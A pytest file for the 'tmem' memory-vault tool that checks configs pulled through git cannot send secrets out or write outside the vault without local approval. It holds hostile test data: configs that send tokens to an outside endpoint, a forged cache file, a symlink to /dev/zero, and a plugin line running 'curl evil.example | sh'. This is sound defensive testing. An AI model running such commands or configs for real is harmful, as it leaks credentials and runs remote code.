"""What comes through git is data: a tmem.yaml pulled from another clone cannot send the vault's
text or secrets anywhere, nor write outside the vault, until this machine's user approves the
exact values (`tmem config approve`). A real bare remote, two clones and a local HTTP listener."""

from __future__ import annotations

import hashlib
import json
import os
import resource
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from helpers import FAKE_CONFIG, as_json, git, ok, run_together

from tiered_memory import config
from tiered_memory.cli.main import cli
from tiered_memory.storage.vault import init_vault

TOKEN = "ghp_" + "Z" * 36


class Listener:
    """An OpenAI-compatible embeddings endpoint on 127.0.0.1 that records every request."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        requests = self.requests

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802 - http.server's naming
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                requests.append({"headers": dict(self.headers), "body": body.decode("utf-8", "replace")})
                texts = json.loads(body).get("input", [])
                data = [{"index": i, "embedding": [1.0] + [0.0] * 15} for i in range(len(texts))]
                payload = json.dumps({"data": data, "model": "m"}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()
        self.thread.join(5)


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def tmem(root: Path, *args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(cli, ["--vault", str(root), *args], input=input, catch_exceptions=False)


@pytest.fixture
def clones(tmp_path: Path) -> tuple[Path, Path]:
    """Machine A's vault pushed to a bare remote, and machine B's clone of it."""
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(remote)], check=True)
    a = tmp_path / "a"
    init_vault(a, config_text=FAKE_CONFIG)
    git(a, "remote", "add", "origin", str(remote))
    ok(tmem(a, "sync"))
    b = tmp_path / "b"
    subprocess.run(["git", "clone", "-q", str(remote), str(b)], check=True)
    return a, b


def _push_from(b: Path, text: str) -> None:
    (b / "tmem.yaml").write_text(text, encoding="utf-8")
    git(b, "-c", "user.name=b", "-c", "user.email=b@b", "commit", "-q", "-am", "config: tune search")
    git(b, "push", "-q", "origin", "main")


def test_a_pulled_config_sends_nothing_and_writes_nothing_outside(
    clones: tuple[Path, Path], listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    a, b = clones
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    outside = tmp_path / "elsewhere" / "transcripts.jsonl"
    outside.parent.mkdir()
    hostile = (
        f"embeddings:\n  provider: openai\n  base_url: {listener.url}\n  api_key_env: GITHUB_TOKEN\n"
        f"export:\n  on_session_end: {outside}\n"
        "search:\n  limit: 7\n"  # plain data comes through as it always did
    )
    _push_from(b, hostile)

    synced = ok(tmem(a, "sync"))
    added = ok(tmem(a, "add", "The harbour bridge is surveyed every spring."))
    found = as_json(tmem(a, "search", "--json", "harbour bridge survey"))
    ok(tmem(a, "reindex"))
    ok(tmem(a, "session", "start", "Harbour"))
    ok(tmem(a, "session", "append", "What did the survey find?"))
    ok(tmem(a, "session", "end"))
    assert listener.requests == []
    assert not outside.exists() and list(outside.parent.iterdir()) == []
    assert [h["title"] for h in found["results"]] != []

    assert (a / "tmem.yaml").read_text(encoding="utf-8") == hostile  # the file is the person's, as pulled
    for key in (
        "embeddings.provider",
        "embeddings.base_url",
        "embeddings.api_key_env",
        "export.on_session_end",
    ):
        assert f"not applied: tmem.yaml now says {key}: " in synced.stdout
    assert "`tmem config approve export.on_session_end` applies it" in synced.stdout
    assert "tmem config approve" in added.stderr and len(added.stderr.splitlines()) == 1  # one warning
    status = as_json(tmem(a, "status", "--json"))
    assert f'embeddings.base_url: "{listener.url}"' in status["not_approved"]
    assert config.load_config(a).search.limit == 7
    assert config.load_config(a).embeddings.provider == "fake"  # the value A had before the pull

    # Once this machine's user approves the exact values, they are used (and the listener hears).
    listed = ok(tmem(a, "config", "approve")).stdout
    assert f'waiting: embeddings.base_url = "{listener.url}"' in listed
    assert listener.requests == [] and not outside.exists()  # listing approves nothing
    ok(tmem(a, "config", "approve", "--all"))
    assert tmem(a, "status").stderr == ""
    ok(tmem(a, "search", "harbour bridge"))
    assert listener.requests and listener.requests[0]["headers"]["Authorization"] == f"Bearer {TOKEN}"


def test_an_approved_value_changed_by_a_pull_is_reported_not_applied(
    clones: tuple[Path, Path], listener: Listener, tmp_path: Path
) -> None:
    """A's user approved its own endpoint; B's commit moving it elsewhere leaves A's in use."""
    a, b = clones
    mine = "http://127.0.0.1:9/v1"  # where A's user wants its notes embedded
    (a / "tmem.yaml").write_text(f"embeddings:\n  provider: openai\n  base_url: {mine}\n", encoding="utf-8")
    git(a, "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-am", "config: my embeddings API")
    assert "tmem config approve" in tmem(a, "status").stderr  # a person's own edit needs approving too
    ok(tmem(a, "config", "approve", "embeddings.provider", "embeddings.base_url"))
    assert tmem(a, "status").stderr == ""
    ok(tmem(a, "sync"))
    git(b, "pull", "-q", "origin", "main")
    _push_from(b, f"embeddings:\n  provider: openai\n  base_url: {listener.url}\n")
    report = as_json(tmem(a, "sync", "--json"))
    assert report["not_applied"] == [f'embeddings.base_url: "{listener.url}"']
    assert config.load_config(a).embeddings.base_url == mine  # not the default address either
    ok(tmem(a, "add", "Nothing of this reaches the listener."))
    assert listener.requests == []


def test_a_planted_checked_config_in_tmem_is_not_believed(
    clones: tuple[Path, Path], listener: Listener
) -> None:
    """A commit can write files under .tmem/ (git overwrites ignored files): a checked copy of the
    config planted there, keyed as tmem would key it without a secret, is a miss."""
    a, b = clones
    ok(tmem(a, "status"))  # A's own checked copy exists
    text = f"embeddings:\n  provider: openai\n  base_url: {listener.url}\n"
    hostile = config.parse_config({"embeddings": {"provider": "openai", "base_url": listener.url}})
    forged = {
        "key": hashlib.sha256(text.encode() + b"\0" + config._schema_source()).hexdigest(),
        "config": config.to_dict(hostile),
        "unapproved": [],
    }
    (b / ".tmem").mkdir(exist_ok=True)
    (b / ".tmem" / "config.json").write_text(json.dumps(forged), encoding="utf-8")
    git(b, "add", "-f", ".tmem/config.json")
    _push_from(b, text)
    refused = tmem(a, "sync")  # tmem's own pull refuses it; a plain `git pull` brings it all the same
    assert refused.exit_code == 2 and ".tmem/config.json" in refused.stderr
    git(a, "-c", "user.name=a", "-c", "user.email=a@x", "pull", "-q", "--no-rebase", "origin", "main")
    # (git's post-merge hook runs tmem, which may rewrite its cache: plant it again after.)
    (a / ".tmem" / "config.json").write_text(json.dumps(forged), encoding="utf-8")
    used = config.load_config(a).embeddings
    assert used.provider != "openai" and used.base_url is None  # the defaults: the planted copy is no proof
    assert [item.key for item in config.unapproved(a)] == ["embeddings.provider", "embeddings.base_url"]


HOSTILE = {
    "embeddings.provider": "openai",
    "embeddings.model": "someone/their-model",
    "embeddings.base_url": "http://203.0.113.9/v1",
    "embeddings.api_key_env": "GITHUB_TOKEN",
    "extract.llm": True,
    "extract.base_url": "http://203.0.113.9/v1",
    "extract.api_key_env": "AWS_SECRET_ACCESS_KEY",
    "export.on_session_end": "/tmp/elsewhere.jsonl",
    "backup.directory": "/tmp/elsewhere",
    "git.remote": "https://203.0.113.9/vault.git",
    "privacy.redact": False,
    "privacy.sealed_in_prompts": True,
    "sync.author": "Someone Else <them@example.org>",
    "git.author_name": "Someone Else",
    "git.author_email": "them@example.org",
}


def test_every_outward_setting_waits_for_approval(vault_path: Path) -> None:
    assert set(HOSTILE) == set(config.OUTWARD)
    sections: dict[str, dict[str, Any]] = {}
    for key, value in HOSTILE.items():
        section, name = key.split(".")
        sections.setdefault(section, {})[name] = value
    sections["extract"]["model"] = "m"
    (vault_path / "tmem.yaml").write_text(json.dumps(sections), encoding="utf-8")  # JSON is YAML
    used = config.to_dict(config.load_config(vault_path))
    for key, value in HOSTILE.items():
        section, name = key.split(".")
        assert used[section][name] in config.OUTWARD[key] and used[section][name] != value, key
    assert {item.key: item.value for item in config.unapproved(vault_path)} == HOSTILE
    assert "tmem config approve" in config.unapproved_warning(config.unapproved(vault_path))
    config.approve(vault_path, {"git.remote": HOSTILE["git.remote"], "privacy.redact": False})
    used = config.to_dict(config.load_config(vault_path))
    assert used["git"]["remote"] == HOSTILE["git.remote"] and used["privacy"]["redact"] is False
    assert used["embeddings"]["base_url"] is None
    trusted = config.user_dir() / config.TRUST_NAME
    assert trusted.stat().st_mode & 0o777 == 0o600 and not trusted.is_relative_to(vault_path)


def test_a_pulled_config_that_lowers_protection_waits_for_approval(clones: tuple[Path, Path]) -> None:
    """A seals two folders; B's commit turns encryption off and drops a folder. Until A's user
    approves, A keeps sealing both."""
    a, b = clones
    sealing = (
        "privacy:\n  encrypt: sensitive\n  encrypted_paths: [long-term/relationships/, long-term/health/]\n"
    )
    (a / "tmem.yaml").write_text(FAKE_CONFIG + sealing, encoding="utf-8")
    git(a, "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-am", "config: seal my folders")
    assert tmem(a, "status").stderr == ""  # a person's own stronger setting needs no approval
    ok(tmem(a, "sync"))
    git(b, "pull", "-q", "origin", "main")
    _push_from(b, FAKE_CONFIG + "privacy:\n  encrypt: none\n  encrypted_paths: [long-term/relationships/]\n")

    report = as_json(tmem(a, "sync", "--json"))
    assert report["not_applied"] == [
        'privacy.encrypt: "none"',
        'privacy.encrypted_paths: ["long-term/relationships/"]',
    ]
    used = config.load_config(a).privacy
    assert used.encrypt == "sensitive"
    assert used.encrypted_paths == ["long-term/relationships/", "long-term/health/"]
    assert "lower its protection" in tmem(a, "status").stderr

    ok(tmem(a, "config", "approve", "privacy.encrypt"))
    used = config.load_config(a).privacy
    assert used.encrypt == "none" and used.encrypted_paths == [
        "long-term/relationships/",
        "long-term/health/",
    ]
    with pytest.raises(config.ConfigError, match="not a setting that needs approval"):
        config.approve(a, {"privacy.redact_more": []})


def test_dropping_what_is_kept_from_an_api_or_a_commit_waits_for_approval(vault_path: Path) -> None:
    guarded = "privacy:\n  excluded_paths: ['long-term/health/**']\n  sensitive_keywords: [Projekt Eule]\n"
    (vault_path / ".tmem").mkdir(exist_ok=True)  # a vault in use: where the settings used are kept
    (vault_path / "tmem.yaml").write_text(FAKE_CONFIG + guarded, encoding="utf-8")
    assert config.unapproved_fresh(vault_path) == []  # more protection is taken as written
    (vault_path / "tmem.yaml").write_text(FAKE_CONFIG + "privacy:\n  excluded_paths: []\n", encoding="utf-8")
    used = config.load_config(vault_path).privacy
    assert used.excluded_paths == ["long-term/health/**"] and used.sensitive_keywords == ["Projekt Eule"]
    assert {item.key for item in config.unapproved(vault_path)} == {
        "privacy.excluded_paths",
        "privacy.sensitive_keywords",
    }


def test_pulled_plugin_code_is_named_before_obsidian_runs_it(clones: tuple[Path, Path]) -> None:
    """B's commit adds an Obsidian plugin and enables it in a vault that tracks `.obsidian/`:
    tmem runs none of it, but Obsidian will when A opens the vault, so A's sync names it."""
    a, b = clones
    plugin = b / ".obsidian/plugins/helper"
    plugin.mkdir(parents=True)
    (plugin / "main.js").write_text("require('child_process').exec('curl evil.example | sh')\n")
    (b / ".obsidian/community-plugins.json").write_text('["helper"]\n')
    (b / ".obsidian/app.json").write_text("{}\n")  # a setting, not code
    git(b, "add", "--force", ".obsidian")
    git(b, "-c", "user.name=b", "-c", "user.email=b@b", "commit", "-q", "-m", "obsidian: a helper plugin")
    git(b, "push", "-q", "origin", "main")

    synced = tmem(a, "sync")
    report = as_json(tmem(a, "sync", "--json"))  # nothing new the second time: nothing named

    assert "pulled plugin code: .obsidian/community-plugins.json and 1 more" in synced.stdout
    assert "Obsidian runs when it opens this vault" in synced.stdout
    assert report["editor_code"] == []


def test_a_pulled_tmem_yaml_that_is_a_link_to_dev_zero_is_refused_in_one_line(
    clones: tuple[Path, Path],
) -> None:
    """A pulled commit turns tmem.yaml into a link to /dev/zero: read through the link, sync's look
    at the settings before and after the pull would take every byte of memory there is. The pull
    is refused before the merge, in one line, by a real `tmem sync` whose memory is bounded."""
    a, b = clones
    (b / "tmem.yaml").unlink()
    (b / "tmem.yaml").symlink_to("/dev/zero")
    git(b, "add", "-A")
    git(b, "-c", "user.name=b", "-c", "user.email=b@b", "commit", "-q", "-m", "config: a link")
    git(b, "push", "-q", "origin", "main")

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 31, 1 << 31))

    done = subprocess.run(
        [sys.executable, "-m", "tiered_memory", "--vault", str(a), "sync"],
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=bounded,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])},
    )
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr[-3000:]
    assert "tmem.yaml (a symbolic link that points outside the vault)" in done.stderr
    assert not (a / "tmem.yaml").is_symlink() and (a / "tmem.yaml").read_text(encoding="utf-8") == FAKE_CONFIG


def test_protection_a_pull_lowered_holds_when_tmem_is_deleted_or_replaced(clones: tuple[Path, Path]) -> None:
    """What this machine used is kept outside the vault too: deleting `.tmem/` (which loses
    nothing, the README says) or a plain `git pull` that plants a checked copy there of its own
    does not make a pulled `encrypt: none` the setting used."""
    a, b = clones
    sealed = ["long-term/relationships/", "long-term/health/"]
    sealing = f"privacy:\n  encrypt: sensitive\n  encrypted_paths: {json.dumps(sealed)}\n"
    (a / "tmem.yaml").write_text(FAKE_CONFIG + sealing, encoding="utf-8")
    git(a, "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-am", "config: seal my folders")
    ok(tmem(a, "sync"))
    git(b, "pull", "-q", "origin", "main")
    (b / ".tmem").mkdir(exist_ok=True)
    (b / ".tmem" / "config.json").write_text("{}", encoding="utf-8")
    git(b, "add", "-f", ".tmem/config.json")
    _push_from(b, FAKE_CONFIG + "privacy:\n  encrypt: none\n  encrypted_paths: []\n")

    git(a, "-c", "user.name=a", "-c", "user.email=a@x", "pull", "-q", "--no-rebase", "origin", "main")
    (a / ".tmem" / "config.json").write_text("{}", encoding="utf-8")  # after git's post-merge hook
    used = config.load_config(a).privacy
    assert used.encrypt == "sensitive" and used.encrypted_paths == sealed

    for planted in (a / ".tmem").iterdir():
        if planted.is_file():
            planted.unlink()
    used = config.load_config(a).privacy
    assert used.encrypt == "sensitive" and used.encrypted_paths == sealed
    assert "lower its protection" in tmem(a, "status").stderr

    ok(tmem(a, "config", "approve", "privacy.encrypt", "privacy.encrypted_paths"))
    assert config.load_config(a).privacy.encrypt == "none"


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["link to /dev/zero", "pipe"])
def test_a_search_with_a_tmem_yaml_that_is_no_file_says_so_in_one_line(vault_path: Path, kind: str) -> None:
    """Before a search starts the vault's daemon it reads `daemon.autostart`: from a link to
    /dev/zero that read took every byte of memory there is, from a pipe it waited for ever."""
    (vault_path / "tmem.yaml").unlink()
    if kind == "pipe":
        os.mkfifo(vault_path / "tmem.yaml")
    else:
        (vault_path / "tmem.yaml").symlink_to("/dev/zero")

    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 31, 1 << 31))

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    env.pop("TMEM_AUTOSTART", None)
    done = subprocess.run(
        [sys.executable, "-m", "tiered_memory", "--vault", str(vault_path), "search", "gps drift"],
        capture_output=True,
        text=True,
        timeout=60,
        preexec_fn=bounded,
        env=env,
    )
    assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr[-3000:]
    assert "tmem.yaml is" in done.stderr


# trusted.json is read, changed and rewritten by `tmem config approve` and by every load that
# records the protection a vault uses: real processes doing both at once lose no entry.
PROCESSES = 8
ROUNDS = 12  # each round one approval and one recorded protection: enough for the race to show

_WORKER = """
import sys, time
from pathlib import Path
from tiered_memory import config
go, base, me, rounds = Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], int(sys.argv[4])
while not go.exists():
    time.sleep(0.001)
for k in range(rounds):
    config.approve(base / f"approved-{me}-{k}", {"embeddings.base_url": f"http://127.0.0.1/{me}/{k}"})
    config.load_config(base / f"vault-{me}-{k}")
"""


def test_concurrent_approvals_and_protection_records_all_survive(tmp_path: Path) -> None:
    home = tmp_path / "home"
    base = tmp_path / "vaults"
    for me in range(PROCESSES):
        for k in range(ROUNDS):
            vault = base / f"vault-{me}-{k}"
            vault.mkdir(parents=True)
            (vault / "tmem.yaml").write_text("privacy:\n  encrypt: sensitive\n", encoding="utf-8")
    go = tmp_path / "go"
    env = {**os.environ, config.ENV_CONFIG_HOME: str(home)}
    run_together(_WORKER, [[str(base), str(me), str(ROUNDS)] for me in range(PROCESSES)], env, go)

    trust = json.loads((home / config.TRUST_NAME).read_text(encoding="utf-8"))
    resolved = base.resolve()
    approved = {root: values["embeddings.base_url"] for root, values in trust["vaults"].items()}
    expected = {
        str(resolved / f"approved-{me}-{k}"): f"http://127.0.0.1/{me}/{k}"
        for me in range(PROCESSES)
        for k in range(ROUNDS)
    }
    assert approved == expected
    protected = {root for root, used in trust["protection"].items() if used["privacy.encrypt"] == "sensitive"}
    assert protected == {str(resolved / f"vault-{me}-{k}") for me in range(PROCESSES) for k in range(ROUNDS)}
    leftovers = [p.name for p in home.iterdir() if p.name.endswith(".tmp")]
    assert leftovers == []


def test_a_pulled_config_dropping_an_excluded_or_a_sealed_folder_is_named_by_sync_and_doctor(
    clones: tuple[Path, Path],
) -> None:
    """B's commit drops the folder A keeps from the embeddings API and the one A seals: A's sync
    says in one line each that it is not applied and why, and `tmem doctor` names it too."""
    a, b = clones
    guarded = (
        "privacy:\n  excluded_paths: [long-term/health/]\n"
        "  encrypted_paths: [long-term/relationships/, long-term/diary/]\n"
    )
    (a / "tmem.yaml").write_text(FAKE_CONFIG + guarded, encoding="utf-8")
    git(a, "-c", "user.name=a", "-c", "user.email=a@a", "commit", "-q", "-am", "config: guard my folders")
    ok(tmem(a, "sync"))
    git(b, "pull", "-q", "origin", "main")
    _push_from(
        b, FAKE_CONFIG + "privacy:\n  excluded_paths: []\n  encrypted_paths: [long-term/relationships/]\n"
    )

    synced = ok(tmem(a, "sync")).stdout
    doctor = tmem(a, "doctor")

    lines = sorted(line for line in synced.splitlines() if line.startswith("not applied: "))
    assert len(lines) == 2
    assert 'privacy.encrypted_paths: ["long-term/relationships/"]' in lines[0]
    assert "privacy.excluded_paths: []" in lines[1]
    assert all("lowers the protection" in line and "reaches outside" not in line for line in lines)
    assert doctor.exit_code != 0
    assert "tmem.yaml says privacy.excluded_paths: [], not used on this machine" in doctor.output
    assert "`tmem config approve privacy.excluded_paths` applies it" in doctor.output
    used = config.load_config(a).privacy
    assert used.excluded_paths == ["long-term/health/"]
    assert used.encrypted_paths == ["long-term/relationships/", "long-term/diary/"]
